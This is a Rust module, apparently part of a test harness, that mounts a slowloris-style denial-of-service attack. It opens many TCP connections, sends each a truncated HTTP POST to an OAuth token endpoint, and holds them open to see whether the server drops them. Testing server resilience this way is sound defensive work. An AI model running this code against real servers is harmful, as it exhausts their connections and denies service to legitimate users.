//! The attacker: opens connections, sends half a body on each, and keeps them.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

/// No key is needed for it.
const HALF: &[u8] = b"POST /oauth/token HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-www-form-urlencoded\r\n\
    content-length: 100\r\n\r\ngrant_type=";

pub(crate) struct Attack {
    opening: Arc<AtomicBool>,
    ending: Arc<AtomicBool>,
    thread: JoinHandle<(u64, usize)>,
}

impl Attack {
    pub(crate) fn start(server: SocketAddr, connections: u64) -> Self {
        let (opening, ending) = (Arc::new(AtomicBool::new(true)), Arc::new(AtomicBool::new(false)));
        let thread = thread::spawn({
            let (opening, ending) = (opening.clone(), ending.clone());
            move || attack(server, connections, &opening, &ending)
        });
        Self { opening, ending, thread }
    }

    /// Whether connections are still being opened.
    pub(crate) fn is_opening(&self) -> bool {
        self.opening.load(Ordering::Relaxed)
    }

    /// Returns how many connections were opened, and how many are open still.
    pub(crate) fn end(self) -> (u64, usize) {
        self.ending.store(true, Ordering::Relaxed);
        self.thread.join().unwrap()
    }
}

fn attack(server: SocketAddr, connections: u64, opening: &AtomicBool, ending: &AtomicBool) -> (u64, usize) {
    let (mut held, mut opened) = (Vec::new(), 0);
    while opened < connections && !ending.load(Ordering::Relaxed) {
        // The queue of a server that accepts no more is full.
        let Ok(mut stream) = TcpStream::connect_timeout(&server, Duration::from_millis(500)) else { continue };
        opened += 1;
        let _ = stream.write_all(HALF);
        held.push(stream);
    }
    opening.store(false, Ordering::Relaxed);
    while !ending.load(Ordering::Relaxed) {
        thread::sleep(Duration::from_millis(50));
    }
    (opened, held.iter().filter(|stream| is_open(stream)).count())
}

fn is_open(mut stream: &TcpStream) -> bool {
    stream.set_nonblocking(true).unwrap();
    stream.read(&mut [0; 256]).is_err_and(|error| error.kind() == ErrorKind::WouldBlock)
}
